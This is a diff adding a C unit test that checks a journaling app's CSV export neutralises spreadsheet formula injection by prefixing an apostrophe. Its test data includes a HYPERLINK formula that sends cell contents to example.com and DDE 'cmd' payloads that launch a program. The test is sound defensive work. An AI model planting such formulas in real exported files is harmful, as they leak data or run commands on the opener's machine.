@@ -825,6 +825,68 @@ test_csv (Fixture      *f,
   g_assert_true (found);
 }
 
+/* Cells a spreadsheet would run as a formula get a leading apostrophe (OWASP's advice),
+ * quoted, so the text stays readable and nothing is run when the file is opened. */
+static void
+test_csv_formula_guard (Fixture      *f,
+                        gconstpointer data)
+{
+  const char *const notes[] = {
+    "=HYPERLINK(\"http://example.com/?\"&A1, \"Click\")",
+    "+1 for today",
+    "-2 degrees outside",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\tindented",
+    "\rcarriage",
+  };
+  const char *const feelings[] = { "=cmd|' /C calc'!A0", "calm", NULL };
+  g_autoptr (ReframeReportOptions) options = options_for ("2026-03-01", "2026-03-14");
+  g_autoptr (ReframeReport) report = NULL;
+  g_autoptr (GBytes) csv = NULL;
+  g_autoptr (GPtrArray) records = NULL;
+  g_autofree char *text = NULL;
+  guint            guarded = 0;
+
+  for (guint i = 0; i < G_N_ELEMENTS (notes); i++)
+    {
+      g_autofree char *time = g_strdup_printf ("2026-03-%02uT12:00:00Z", i + 1);
+
+      g_free (add_entry (f, time, REFRAME_MOOD_OKAY, notes[i], FALSE, i == 0 ? feelings : NULL));
+    }
+  g_free (add_entry (f, "2026-03-09T12:00:00Z", REFRAME_MOOD_OKAY, "A plain note - with a dash inside", FALSE, NULL));
+  report = build (f, options);
+  csv = reframe_report_to_csv (report);
+  text = bytes_to_string (csv);
+  records = parse_csv (text);
+  g_assert_cmpuint (records->len, ==, 1 + G_N_ELEMENTS (notes) + 1);
+  for (guint i = 1; i < records->len; i++)
+    {
+      GPtrArray  *record = g_ptr_array_index (records, i);
+      const char *note = g_ptr_array_index (record, 8);
+
+      /* No cell starts with what a spreadsheet reads as a formula. */
+      for (guint j = 0; j < record->len; j++)
+        {
+          const char *cell = g_ptr_array_index (record, j);
+
+          g_assert_null (strchr ("=+-@\t\r", cell[0] != '\0' ? cell[0] : 'x'));
+        }
+      if (i - 1 < G_N_ELEMENTS (notes))
+        {
+          /* The text is all there, after the apostrophe. */
+          g_assert_cmpint (note[0], ==, '\'');
+          g_assert_cmpstr (note + 1, ==, notes[i - 1]);
+          guarded++;
+        }
+      else
+        g_assert_cmpstr (note, ==, "A plain note - with a dash inside");
+    }
+  g_assert_cmpuint (guarded, ==, G_N_ELEMENTS (notes));
+  /* Feelings are the person's words too; guarded fields are quoted. */
+  g_assert_nonnull (strstr (text, ",\"'=cmd|' /C calc'!A0; calm\","));
+  g_assert_nonnull (strstr (text, ",\"'+1 for today\","));
+}
+
 static void
 test_empty (Fixture      *f,
             gconstpointer data)
@@ -1325,6 +1387,7 @@ main (int    argc,
   ADD ("summary", test_summary);
   ADD ("json", test_json);
   ADD ("csv", test_csv);
+  ADD ("csv-formula-guard", test_csv_formula_guard);
   ADD ("empty", test_empty);
   ADD ("bad-destinations", test_bad_destinations);
   ADD ("safe-writing", test_safe_writing);
